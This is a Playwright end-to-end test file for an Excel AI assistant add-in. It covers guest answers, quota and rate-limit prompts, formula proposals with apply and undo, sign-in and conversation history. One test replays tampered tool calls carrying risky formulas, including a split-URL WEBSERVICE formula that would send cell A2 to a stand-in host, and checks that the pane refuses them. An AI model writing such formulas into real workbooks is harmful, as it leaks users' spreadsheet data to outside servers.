// The Excel task pane end to end, in Chromium with a fake Office host (window.Office and
// window.Excel over an in-memory workbook, tests/e2e/fixtures/fake-office-host.ts) and
// Microsoft's office.js CDN answered with an empty script.
//
// 1. On the main test server (embedded defaults, no AI provider): a guest asks about the
//    selection and the offline analyst answers, labelled as such; a used-up plan shows the
//    upgrade prompt.
// 2. On a second server of the same build whose only AI provider is the local fake
//    OpenAI-compatible server (tests/fixtures/ai/fake-openai-server.ts): sign in with a pasted
//    API key, select a range, watch an answer stream, get a proposed formula write through the
//    real /api/chat (validated by the server), apply it, see the cells change, undo it, see
//    them restored. Then sign in through the Office dialog, find the conversation in this
//    workbook's history and reopen it.
import { mkdirSync } from "node:fs";
import path from "node:path";
import { expect, request, test, type BrowserContext, type Page, type TestInfo } from "@playwright/test";
import { startFakeOpenAIServer, type FakeOpenAIServer } from "../fixtures/ai/fake-openai-server";
import { startSecondServer, type SecondServer } from "./fixtures/second-server";
import type { StoreCell, WorkbookSeed } from "../fixtures/addin/workbook-store";
import { fakeOfficeScript } from "./fixtures/fake-office-host";
import { replayChatStream } from "./fixtures/replay-chat-stream";

const SCREENSHOTS = path.join("tests", "e2e", "screenshots");
const SECOND_PORT = Number(process.env.E2E_ADDIN_PORT ?? 3211);
const SECOND_URL = `http://localhost:${SECOND_PORT}`;
const PASSWORD = "Spreadsheet-42!";

const SALES: StoreCell[][] = [
  ["Region", "Q1", "Q2", "Total"],
  ["North", 1200, 1350, null],
  ["South", 900, 1010, null],
  ["East", 1500, 1650, null],
  ["West", 700, 820, null],
];

const SEED: WorkbookSeed = { workbookName: "Budget.xlsx", activeSheet: "Sheet1", selection: "Sheet1!A1:C5", sheets: { Sheet1: SALES } };
const DOCUMENT_URL = "https://contoso.sharepoint.com/sites/finance/Shared%20Documents/Budget%202025.xlsx";

async function snap(page: Page, testInfo: TestInfo, name: string) {
  const dir = path.join(SCREENSHOTS, testInfo.project.name);
  mkdirSync(dir, { recursive: true });
  await page.screenshot({ path: path.join(dir, `${name}.png`), fullPage: true });
}

/** The fake host in every page of the context (the sign-in dialog is a popup), office.js stubbed. */
async function useFakeOffice(context: BrowserContext) {
  await context.route("https://appsforoffice.microsoft.com/**", (route) => route.fulfill({ body: "", contentType: "text/javascript" }));
  await context.addInitScript({ content: fakeOfficeScript(SEED, { documentUrl: DOCUMENT_URL }) });
}

const composer = (page: Page) => page.getByLabel("Ask about your selection");

/**
 * Fails the test on any script error or console error in the pane, except failed loads the test
 * provokes on purpose (a 429, a wrong password).
 */
function watchConsole(page: Page, allowedStatuses: number[] = []) {
  const problems: string[] = [];
  page.on("pageerror", (error) => problems.push(`pageerror: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() !== "error") return;
    const text = message.text();
    if (allowedStatuses.some((status) => text.includes(`status of ${status}`))) return;
    problems.push(`console: ${text}`);
  });
  return problems;
}

async function ask(page: Page, question: string) {
  await composer(page).fill(question);
  await composer(page).press("Enter");
}

/** An answer in the UI message stream protocol, as /api/chat sends it. */
function streamBody(messageId: string, text: string, parts: object[] = []): string {
  const chunks = [
    { type: "start", messageId },
    { type: "start-step" },
    { type: "text-start", id: "t1" },
    { type: "text-delta", id: "t1", delta: text },
    { type: "text-end", id: "t1" },
    ...parts,
    { type: "finish-step" },
    { type: "finish" },
  ];
  return `${chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join("")}data: [DONE]\n\n`;
}

const STREAM_HEADERS = { "Content-Type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" };
const TOTALS = { address: "Sheet1!D2:D5", formulas: [["=SUM(B2:C2)"], ["=SUM(B3:C3)"], ["=SUM(B4:C4)"], ["=SUM(B5:C5)"]], explanation: "Adds Q1 + Q2 for each region." };

test.describe("task pane", () => {
  const TASKPANE_ONLY = "the task pane is about 350px wide: these run in the taskpane project only";
  test.beforeEach(({}, testInfo) => test.skip(testInfo.project.name !== "taskpane", TASKPANE_ONLY));

  test("a guest asks about the selection, the offline analyst answers, and a used-up plan offers an upgrade", async ({ page, context }, testInfo) => {
    // Under `next dev` the first request compiles the pane and the chat route.
    if (process.env.E2E_DEV) test.slow();
    const problems = watchConsole(page, [429]);
    await useFakeOffice(context);
    await page.goto("/addin/taskpane");

    await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible({ timeout: 30_000 });
    await snap(page, testInfo, "addin-01-welcome");
    await page.getByRole("button", { name: "Continue as a guest" }).click();

    // The chip says what is selected and what will be sent.
    const chip = page.getByTestId("selection-chip");
    await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!A1:C5");
    await expect(chip).toContainText("15 cells");
    await expect(chip).toContainText("tokens");
    await chip.locator("summary").click();
    await expect(page.getByTestId("selection-preview")).toContainText("Region");
    await expect(chip).toContainText("Workbook Budget 2025.xlsx");
    await snap(page, testInfo, "addin-02-selection-chip");
    await chip.locator("summary").click();

    // Selecting other cells updates the chip.
    await page.evaluate(() => (window as any).__fakeExcel.select("Sheet1!B1:C5"));
    await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!B1:C5");
    await expect(chip).toContainText("10 cells");

    await ask(page, "Summarize this data");
    const answer = page.getByTestId("assistant-message").last();
    await expect(answer).toContainText("No AI model answered this", { timeout: 60_000 });
    await expect(answer).toContainText("Offline analyst (no AI model)");
    await expect(answer.getByTestId("sent-context")).toContainText("Sent Sheet1!B1:C5");
    await expect(page.getByTestId("user-message").last()).toContainText("with Sheet1!B1:C5 (10 cells)");
    // Answers render as markdown text, never as raw HTML or images.
    await expect(answer.locator("img")).toHaveCount(0);
    await snap(page, testInfo, "addin-03-offline-answer");

    // The answer said what is left of today's guest questions (X-Quota): settings show it.
    await page.getByRole("button", { name: "Settings" }).click();
    await expect(page.getByTestId("plan-usage")).toContainText("Guest");
    await expect(page.getByTestId("plan-usage")).toContainText(/\d+ of 10 guest questions left today/);
    await expect(page.getByRole("button", { name: "Create a free account" })).toBeVisible();
    await expect(page.getByRole("button", { name: /Help/ })).toBeVisible();
    await page.getByRole("button", { name: "Settings" }).click();

    // A used-up plan: the route's quota_exceeded envelope becomes the upgrade prompt. (Served by
    // this stub because a real guest would need ten real questions first.)
    await page.route("**/api/chat", (route) =>
      route.fulfill({
        status: 429,
        contentType: "application/json",
        headers: { "Retry-After": "3600", "X-Request-Id": "req-e2e-quota" },
        body: JSON.stringify({ error: { code: "quota_exceeded", message: "You have used your 10 free questions for today. Sign up for more.", requestId: "req-e2e-quota", upgradeUrl: "/sign-up" } }),
      }),
    );
    await ask(page, "And the trend?");
    const prompt = page.getByTestId("upgrade-prompt");
    await expect(prompt).toContainText("You have reached your plan's limit");
    await expect(prompt).toContainText("10 free questions");
    await prompt.getByRole("button", { name: "Create a free account" }).click();
    const opened = await page.evaluate(() => (window as any).__fakeExcel.openedUrls as string[]);
    expect(opened).toEqual([`${new URL(page.url()).origin}/sign-up`]);
    await snap(page, testInfo, "addin-04-upgrade-prompt");
    expect(problems).toEqual([]);
  });

  test("an answer carrying a risky formula: the card names the rule, and nothing is written", async ({ page, context }, testInfo) => {
    if (process.env.E2E_DEV) test.slow();
    const problems = watchConsole(page);
    await useFakeOffice(context);
    await page.goto("/addin/taskpane");
    await page.getByRole("button", { name: "Continue as a guest" }).click();
    await page.evaluate(() => (window as any).__fakeExcel.select("Sheet1!D2:D5"));
    await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!D2:D5");

    // An answer as a tampered response, a replayed cache entry or a stored conversation could
    // deliver it: the proposals never went through the server's check, so the pane's own check
    // (the same formula policy) is all that stands between them and the workbook.
    const proposal = (toolCallId: string, formulas: string[][]) => ({
      type: "tool-input-available",
      toolCallId,
      toolName: "write_range",
      input: { address: "Sheet1!D2:D5", formulas, explanation: "Totals for each region." },
    });
    const chunks = [
      { type: "start", messageId: "e2e-risky" },
      { type: "start-step" },
      { type: "text-start", id: "t1" },
      { type: "text-delta", id: "t1", delta: "Here are your totals." },
      { type: "text-end", id: "t1" },
      proposal("call_nested", [['=IFERROR(WEBSERVICE("h"&"ttps://x.example/?d="&A2),"")'], ["=B3+C3"], ["=B4+C4"], ["=B5+C5"]]),
      proposal("call_by_name", [["=MAP(A2:A5,WEBSERVICE)"], [""], [""], [""]]),
      proposal("call_external", [["='[Budget]Q1'!B2"], ["=B3+C3"], ["=B4+C4"], ["=B5+C5"]]),
      { type: "finish-step" },
      { type: "finish" },
    ];
    await replayChatStream(page, chunks);
    await ask(page, "Add a total for each region in column D");

    const refused = page.getByTestId("edit-card-refused");
    await expect(refused).toHaveCount(3, { timeout: 30_000 });
    await expect(refused.nth(0)).toContainText('D2 calls WEBSERVICE (rule "network"');
    await expect(refused.nth(1)).toContainText('D2 passes WEBSERVICE by name');
    await expect(refused.nth(1)).toContainText('rule "network"');
    await expect(refused.nth(2)).toContainText('rule "external_reference"');
    await expect(page.getByTestId("edit-card")).toHaveCount(0);
    await expect(page.getByRole("button", { name: "Apply" })).toHaveCount(0);
    await snap(page, testInfo, "addin-12-risky-formula-refused");
    expect(await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!D2:D5").formulas)).toEqual([[""], [""], [""], [""]]);
    expect(problems).toEqual([]);
  });

  test("a change card in a long conversation: in view, focus on the result, values beside formulas, undo, apply again, show in sheet", async ({ page, context }, testInfo) => {
    if (process.env.E2E_DEV) test.slow();
    const problems = watchConsole(page);
    await useFakeOffice(context);
    let turn = 0;
    const long = Array.from({ length: 14 }, (_, i) => `Point ${i + 1}: the regions differ in size and in growth from Q1 to Q2.`).join("\n\n");
    await page.route("**/api/chat", (route) => {
      turn++;
      const parts = turn === 4 ? [{ type: "tool-input-available", toolCallId: "call_totals", toolName: "write_range", input: TOTALS }] : [];
      return route.fulfill({ status: 200, headers: STREAM_HEADERS, body: streamBody(`e2e-long-${turn}`, long, parts) });
    });
    await page.goto("/addin/taskpane");
    await page.getByRole("button", { name: "Continue as a guest" }).click();
    // Signing in (here as a guest) leaves focus in the question box.
    await expect(composer(page)).toBeFocused();
    for (const question of ["What stands out?", "And by quarter?", "Any outliers?"]) {
      await ask(page, question);
      await expect(page.getByTestId("assistant-message")).toHaveCount(turn, { timeout: 30_000 });
    }
    await ask(page, "Add a total for each region in column D");
    const card = page.getByTestId("edit-card");
    await expect(card.getByTestId("edit-card-changes").locator("tbody tr")).toHaveCount(4, { timeout: 30_000 });
    // Once the card has drawn (its preview read), its buttons are on screen without scrolling.
    await expect(card.getByRole("button", { name: "Apply" })).toBeInViewport();
    await expect(card.getByRole("button", { name: "Reject" })).toBeInViewport();
    await snap(page, testInfo, "addin-13-card-in-view");

    await card.getByRole("button", { name: "Apply" }).click();
    await expect(card.getByTestId("edit-card-status")).toHaveText("Applied");
    const result = card.getByTestId("edit-card-result");
    await expect(result).toBeFocused();
    await expect(result).toHaveText("Applied to Sheet1!D2:D5.");
    const values = card.getByTestId("edit-card-values");
    await expect(values.locator("tbody tr")).toHaveCount(4);
    await expect(values.locator("tbody tr").first()).toContainText("=SUM(B2:C2)");
    await expect(values.locator("tbody tr").first()).toContainText("2550");
    await expect(values.locator("tbody tr").nth(3)).toContainText("1520");
    await snap(page, testInfo, "addin-14-applied-values");

    await card.getByRole("button", { name: "Undo" }).click();
    await expect(card.getByTestId("edit-card-status")).toHaveText("Undone");
    await expect(result).toBeFocused();
    await expect(result).toContainText("back as it was");
    await expect(values).toHaveCount(0);
    expect(await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!D2:D5").formulas)).toEqual([[""], [""], [""], [""]]);

    await card.getByRole("button", { name: "Apply again" }).click();
    await expect(card.getByTestId("edit-card-status")).toHaveText("Applied");
    await expect(result).toBeFocused();
    await expect(values.locator("tbody tr").first()).toContainText("2550");
    expect(await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!D2:D5").values)).toEqual([[2550], [1910], [3150], [1520]]);

    // Show in sheet selects the card's range in Excel (and the selection chip follows).
    await page.evaluate(() => (window as any).__fakeExcel.select("Sheet1!A1"));
    await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!A1");
    await card.getByRole("button", { name: "Show in sheet" }).click();
    await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!D2:D5");
    expect(await page.evaluate(() => (window as any).__fakeExcel.store.state.selection)).toBe("Sheet1!D2:D5");
    expect(problems).toEqual([]);
  });

  test("limits in view: a quiet line when few questions are left, and while rate-limited Send waits and the question is marked Not sent with Retry", async ({ page, context }, testInfo) => {
    if (process.env.E2E_DEV) test.slow();
    const problems = watchConsole(page, [429]);
    await useFakeOffice(context);
    let turn = 0;
    await page.route("**/api/chat", (route) => {
      turn++;
      if (turn === 2) {
        return route.fulfill({
          status: 429,
          contentType: "application/json",
          headers: { "Retry-After": "4", "X-Request-Id": "req-e2e-rate" },
          body: JSON.stringify({ error: { code: "rate_limited", message: "Too many requests. Try again in 4 seconds.", requestId: "req-e2e-rate" } }),
        });
      }
      const left = turn === 1 ? 3 : 2;
      return route.fulfill({
        status: 200,
        headers: { ...STREAM_HEADERS, "X-Quota": `plan=guest, requests-remaining=${left}, requests-limit=10, tokens-remaining=20000, tokens-limit=20000` },
        body: streamBody(`e2e-limit-${turn}`, turn === 1 ? "North and East lead." : "South is steady."),
      });
    });
    await page.goto("/addin/taskpane");
    await page.getByRole("button", { name: "Continue as a guest" }).click();
    await expect(page.getByTestId("quota-line")).toHaveCount(0);

    await ask(page, "Who leads?");
    await expect(page.getByTestId("assistant-message").last()).toContainText("North and East lead.", { timeout: 30_000 });
    await expect(page.getByTestId("quota-line")).toHaveText("3 of 10 guest questions left today.");
    await page.getByRole("button", { name: "Settings" }).click();
    await expect(page.getByTestId("plan-usage")).toContainText("3 of 10 guest questions left today");
    await expect(page.getByTestId("plan-usage")).toContainText("20,000 of 20,000 tokens left this month");
    await page.getByRole("button", { name: "Settings" }).click();

    await ask(page, "And South?");
    const notSent = page.getByTestId("not-sent");
    await expect(notSent).toHaveText(/Not sent — Retry/);
    const retry = notSent.getByRole("button", { name: "Retry" });
    await expect(retry).toBeDisabled();
    await expect(page.getByTestId("send-countdown")).toContainText(/you can send again in [1-4] seconds?/);
    await composer(page).fill("Meanwhile, West?");
    await expect(page.getByRole("button", { name: "Send" })).toBeDisabled();
    await snap(page, testInfo, "addin-15-rate-limited");

    // When the wait is over, Retry sends the unanswered question again.
    await expect(retry).toBeEnabled({ timeout: 8_000 });
    await expect(page.getByTestId("send-countdown")).toHaveCount(0);
    await expect(page.getByRole("button", { name: "Send" })).toBeEnabled();
    await retry.click();
    await expect(page.getByTestId("assistant-message").last()).toContainText("South is steady.", { timeout: 30_000 });
    await expect(page.getByTestId("not-sent")).toHaveCount(0);
    await expect(page.getByTestId("user-message")).toHaveCount(2);
    await expect(page.getByTestId("quota-line")).toHaveText("2 of 10 guest questions left today.");
    expect(turn).toBe(3);
    expect(problems).toEqual([]);
  });

  test.describe("with an AI provider", () => {
    test.describe.configure({ mode: "serial" });
    let upstream: FakeOpenAIServer;
    let server: SecondServer | undefined;

    test.beforeAll(async ({}, testInfo) => {
      test.skip(testInfo.project.name !== "taskpane", TASKPANE_ONLY);
      test.skip(Boolean(process.env.E2E_DEV), "needs a production build (`next build`) to start a second server next to the main one");
      test.setTimeout(120_000);
      upstream = await startFakeOpenAIServer();
      server = await startSecondServer({
        port: SECOND_PORT,
        name: "addin",
        env: {
          AUTH_SECRET: process.env.E2E_AUTH_SECRET ?? "e2e-addin-secret-that-is-at-least-32-characters",
          AI_PROVIDER_ORDER: "compatible",
          OPENAI_COMPATIBLE_BASE_URL: `${upstream.url}/v1`,
          OPENAI_COMPATIBLE_MODEL: "fake-model",
          OPENAI_COMPATIBLE_API_KEY: upstream.keys.bearer,
        },
      });
    });

    test.afterAll(async () => {
      server?.stop();
      await upstream?.close();
    });

    async function createAccount(testInfo: TestInfo) {
      const api = await request.newContext({ baseURL: SECOND_URL });
      const email = `addin-${testInfo.workerIndex}-${Date.now()}-${Math.random().toString(36).slice(2, 7)}@example.com`;
      const signup = await api.post("/api/auth/signup", { data: { email, password: PASSWORD } });
      expect(signup.status()).toBe(201);
      const { access_token } = await signup.json();
      const created = await api.post("/api/keys", { data: { name: "Excel add-in" }, headers: { Authorization: `Bearer ${access_token}` } });
      expect(created.status()).toBe(201);
      const { key } = await created.json();
      await api.dispose();
      return { email, apiKey: key as string };
    }

    test("sign in with an API key, ask, approve a formula write, see the cells change, undo it", async ({ page, context }, testInfo) => {
      const { apiKey } = await createAccount(testInfo);
      const problems = watchConsole(page);
      await useFakeOffice(context);
      const chatRequests: { authorization: string | null; body: any }[] = [];
      page.on("request", (req) => {
        if (req.url().endsWith("/api/chat") && req.method() === "POST") chatRequests.push({ authorization: req.headers().authorization ?? null, body: req.postDataJSON() });
      });

      await page.goto(`${SECOND_URL}/addin/taskpane`);
      await page.getByLabel("Or paste an API key").fill(apiKey);
      await page.getByRole("button", { name: "Use key" }).click();
      await page.getByRole("button", { name: "Settings" }).click();
      await expect(page.getByTestId("account-name")).toHaveText(`API key ${apiKey.slice(0, 12)}…`);
      await page.getByRole("button", { name: "Settings" }).click();

      await page.evaluate(() => (window as any).__fakeExcel.select("Sheet1!A1:C5"));
      await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!A1:C5");

      // An answer that streams in word by word.
      upstream.script({ kind: "answer", text: ["East ", "leads ", "both ", "quarters; ", "West ", "trails ", "but ", "grows ", "fastest."], delayMs: 250, usage: { prompt: 200, completion: 9 } });
      await ask(page, "What stands out?");
      const first = page.getByTestId("assistant-message").first();
      await expect(first).toContainText("East leads");
      await expect(first).not.toContainText("fastest.");
      await snap(page, testInfo, "addin-05-streaming");
      await expect(first).toContainText("West trails but grows fastest.");

      expect(chatRequests[0].authorization).toBe(`Bearer ${apiKey}`);
      expect(chatRequests[0].body.context.selectedRange.address).toBe("Sheet1!A1:C5");
      expect(chatRequests[0].body.context.selectedRange.values[1]).toEqual(["North", 1200, 1350]);
      expect(chatRequests[0].body.context.workbook.name).toBe("Budget 2025.xlsx");

      // The model proposes totals; the server validates the proposal and the pane shows it.
      await page.evaluate(() => (window as any).__fakeExcel.select("Sheet1!D2:D5"));
      await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!D2:D5");
      upstream.script({
        kind: "tool_call",
        name: "write_range",
        text: ["I'll add a total for each region in column D."],
        arguments: {
          address: "Sheet1!D2:D5",
          formulas: [["=SUM(B2:C2)"], ["=SUM(B3:C3)"], ["=SUM(B4:C4)"], ["=SUM(B5:C5)"]],
          explanation: "Adds Q1 + Q2 for each region.",
        },
        usage: { prompt: 220, completion: 40 },
      });
      await ask(page, "Add a total for each region in column D");
      const card = page.getByTestId("edit-card");
      await expect(card).toBeVisible({ timeout: 20_000 });
      await expect(card).toContainText("Write formulas");
      await expect(card).toContainText("Sheet1!D2:D5");
      await expect(card).toContainText("Adds Q1 + Q2 for each region.");
      const changes = card.getByTestId("edit-card-changes");
      await expect(changes.locator("tbody tr")).toHaveCount(4);
      await expect(changes.locator("tbody tr").first()).toContainText("D2");
      await expect(changes.locator("tbody tr").first()).toContainText("(empty)");
      await expect(changes.locator("tbody tr").first()).toContainText("=SUM(B2:C2)");
      await snap(page, testInfo, "addin-06-proposed-edit");

      // Nothing is written before approval.
      expect(await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!D2:D5").formulas)).toEqual([[""], [""], [""], [""]]);

      await card.getByRole("button", { name: "Apply" }).click();
      await expect(card.getByTestId("edit-card-status")).toHaveText("Applied");
      const applied = await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!D2:D5"));
      expect(applied.formulas).toEqual([["=SUM(B2:C2)"], ["=SUM(B3:C3)"], ["=SUM(B4:C4)"], ["=SUM(B5:C5)"]]);
      expect(applied.values).toEqual([[2550], [1910], [3150], [1520]]);
      await snap(page, testInfo, "addin-07-applied");

      await card.getByRole("button", { name: "Undo" }).click();
      await expect(card.getByTestId("edit-card-status")).toHaveText("Undone");
      const restored = await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!A1:D5"));
      expect(restored.values).toEqual(SALES.map((row) => row.map((cell) => cell ?? "")));
      expect(restored.formulas.map((row: unknown[]) => row[3])).toEqual(["Total", "", "", "", ""]);
      await snap(page, testInfo, "addin-08-undone");

      // The model saw the proposal and what the user did with it on the next turn.
      upstream.script({ kind: "answer", text: ["Noted."] });
      await ask(page, "Thanks");
      await expect(page.getByTestId("assistant-message").last()).toContainText("Noted.");
      const history = chatRequests[chatRequests.length - 1].body.messages as { role: string; parts: { type: string; state?: string; output?: unknown }[] }[];
      const toolPart = history.flatMap((m) => m.parts).find((p) => p.type === "tool-write_range");
      expect(toolPart).toMatchObject({ state: "output-available", output: { status: "undone", address: "Sheet1!D2:D5" } });

      // In auto mode a proposal is applied as soon as the answer is complete. An API key cannot
      // change account settings, so the choice is kept on this device, and the pane says so.
      await page.getByRole("button", { name: "Settings" }).click();
      await page.getByLabel("When the assistant proposes a change").selectOption("auto");
      await expect(page.getByText(/Saved on this device\. An API key cannot change account settings/)).toBeVisible();
      await page.getByRole("button", { name: "Settings" }).click();
      upstream.script({
        kind: "tool_call",
        name: "format_range",
        text: ["Bolding the header."],
        arguments: { address: "Sheet1!A1:D1", bold: true, fillColor: "#C6EFCE", explanation: "Makes the header stand out." },
      });
      await ask(page, "Make the header bold");
      const autoCard = page.getByTestId("edit-card").last();
      await expect(autoCard.getByTestId("edit-card-status")).toHaveText("Applied automatically");
      const header = await page.evaluate(() => (window as any).__fakeExcel.store.getCellProperties("Sheet1", { row: 0, column: 0, rowCount: 1, columnCount: 4 }));
      expect(header[0].map((cell: any) => [cell.format.font.bold, cell.format.fill.color])).toEqual(Array(4).fill([true, "#C6EFCE"]));
      await snap(page, testInfo, "addin-09-auto-applied");
      // Each decision is stored as it is made (not only with the next question).
      const stored = page.waitForResponse((r) => r.request().method() === "PATCH" && r.url().includes("/api/conversations/") && (r.request().postData() ?? "").includes('"undone"'));
      await autoCard.getByRole("button", { name: "Undo" }).click();
      await expect(autoCard.getByTestId("edit-card-status")).toHaveText("Undone");
      expect((await stored).status()).toBe(200);
      const unformatted = await page.evaluate(() => (window as any).__fakeExcel.store.getCellProperties("Sheet1", { row: 0, column: 0, rowCount: 1, columnCount: 4 }));
      expect(unformatted[0].map((cell: any) => [cell.format.font.bold, cell.format.fill.color])).toEqual(Array(4).fill([false, "#FFFFFF"]));

      // Reopened later, the conversation shows the formula proposal as it was left (undone, as
      // reported with "Thanks"), not as a change to apply again.
      await page.getByRole("button", { name: "New conversation" }).click();
      await page.getByRole("button", { name: "Conversations in this workbook" }).click();
      await page.getByRole("button", { name: /What stands out\?/ }).click();
      const reopened = page.getByTestId("edit-card").first();
      await expect(reopened.getByTestId("edit-card-status")).toHaveText("Undone");
      await expect(reopened.getByTestId("edit-card-earlier")).toBeVisible();
      await expect(reopened.getByRole("button", { name: "Apply" })).toHaveCount(0);
      const reopenedAuto = page.getByTestId("edit-card").last();
      await expect(reopenedAuto.getByTestId("edit-card-status")).toHaveText("Undone");
      await expect(page.getByRole("button", { name: "Apply" })).toHaveCount(0);
      await snap(page, testInfo, "addin-09b-reopened-decided");
      expect(problems).toEqual([]);
    });

    test("sign in through the Office dialog, then reopen a conversation from this workbook's history", async ({ page, context }, testInfo) => {
      const { email } = await createAccount(testInfo);
      const problems = watchConsole(page);
      await useFakeOffice(context);
      await page.goto(`${SECOND_URL}/addin/taskpane`);

      const [dialog] = await Promise.all([context.waitForEvent("page"), page.getByRole("button", { name: "Sign in" }).click()]);
      await dialog.waitForLoadState();
      await expect(dialog.getByRole("heading", { name: "Sign in to the Excel add-in" })).toBeVisible();
      await dialog.setViewportSize({ width: 420, height: 640 });
      await dialog.getByLabel("Email").fill(email);
      await dialog.getByLabel("Password").fill("wrong-password");
      await dialog.getByRole("button", { name: "Sign in" }).click();
      await expect(dialog.locator("[role=alert]").first()).not.toBeEmpty();
      await snap(dialog, testInfo, "addin-10-dialog-wrong-password");
      await dialog.getByLabel("Password").fill(PASSWORD);
      await Promise.all([dialog.waitForEvent("close"), dialog.getByRole("button", { name: "Sign in" }).click()]);

      await page.getByRole("button", { name: "Settings" }).click();
      await expect(page.getByTestId("account-name")).toHaveText(email);
      await page.getByRole("button", { name: "Settings" }).click();

      upstream.script({ kind: "answer", text: ["Four regions, two quarters."] });
      await ask(page, "Describe the table");
      await expect(page.getByTestId("assistant-message").last()).toContainText("Four regions, two quarters.");

      await page.getByRole("button", { name: "New conversation" }).click();
      await expect(page.getByTestId("assistant-message")).toHaveCount(0);

      await page.getByRole("button", { name: "Conversations in this workbook" }).click();
      const item = page.getByRole("button", { name: /Describe the table/ });
      await expect(item).toBeVisible();
      await snap(page, testInfo, "addin-11-history");
      await item.click();
      await expect(page.getByTestId("user-message")).toContainText("Describe the table");
      await expect(page.getByTestId("assistant-message")).toContainText("Four regions, two quarters.");
      // The stored answer keeps who answered and what was sent.
      await expect(page.getByTestId("assistant-message")).toContainText("fake-model");
      await expect(page.getByTestId("sent-context")).toContainText("Sent Sheet1!A1:C5");

      // Reopened, it goes on: the next question continues the same conversation.
      await expect(composer(page)).toBeFocused();
      upstream.script({ kind: "answer", text: ["East leads both quarters."] });
      const continued = page.waitForRequest((r) => r.url().endsWith("/api/chat") && r.method() === "POST");
      await ask(page, "Which region leads?");
      await expect(page.getByTestId("assistant-message").last()).toContainText("East leads both quarters.");
      const sent = (await continued).postDataJSON();
      expect(sent.conversationId).toEqual(expect.any(String));
      await page.getByRole("button", { name: "Conversations in this workbook" }).click();
      await expect(page.getByRole("button", { name: /Describe the table/ })).toContainText("4 messages");
      await page.getByRole("button", { name: "Back to chat" }).click();

      // Signing out ends the session on the server: the tokens the pane held are dead.
      const held = await page.evaluate(() => JSON.parse(localStorage.getItem("excel-ai-assistant:addin:credential:v1") ?? "null"));
      expect(held?.kind).toBe("session");
      await page.getByRole("button", { name: "Settings" }).click();
      const loggedOut = page.waitForResponse((r) => r.url().endsWith("/api/auth/logout"));
      await page.getByRole("button", { name: "Sign out" }).click();
      expect((await loggedOut).status()).toBe(200);
      await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
      const api = await request.newContext({ baseURL: SECOND_URL });
      expect((await api.post("/api/auth/refresh", { data: { refresh_token: held.refreshToken } })).status()).toBe(401);
      expect((await api.get("/api/conversations", { headers: { Authorization: `Bearer ${held.accessToken}` } })).status()).toBe(401);
      await api.dispose();
      expect(problems).toEqual([]);

      // On the dashboard the same conversation can be continued too, not only read.
      const dashboard = await context.newPage();
      await dashboard.goto(`${SECOND_URL}/sign-in`);
      await dashboard.getByLabel("Email").fill(email);
      await dashboard.getByLabel("Password").fill(PASSWORD);
      await dashboard.getByRole("button", { name: "Sign in" }).click();
      await expect(dashboard).toHaveURL(/\/dashboard/);
      await dashboard.goto(`${SECOND_URL}/dashboard/history`);
      await dashboard.getByRole("link", { name: /Describe the table/ }).first().click();
      await expect(dashboard.getByRole("heading", { name: /Describe the table/ })).toBeVisible();
      await dashboard.getByRole("button", { name: "Continue this conversation" }).click();
      upstream.script({ kind: "answer", text: ["West grows fastest."] });
      await dashboard.getByLabel("Your next question").fill("Who grows fastest?");
      await dashboard.getByRole("button", { name: "Send" }).click();
      await expect(dashboard.getByTestId("continued-assistant")).toContainText("West grows fastest.", { timeout: 30_000 });
      await snap(dashboard, testInfo, "addin-16-dashboard-continue");
      await dashboard.reload();
      await expect(dashboard.getByTestId("history-message-assistant").last()).toContainText("West grows fastest.");
      await dashboard.close();
    });
  });
});
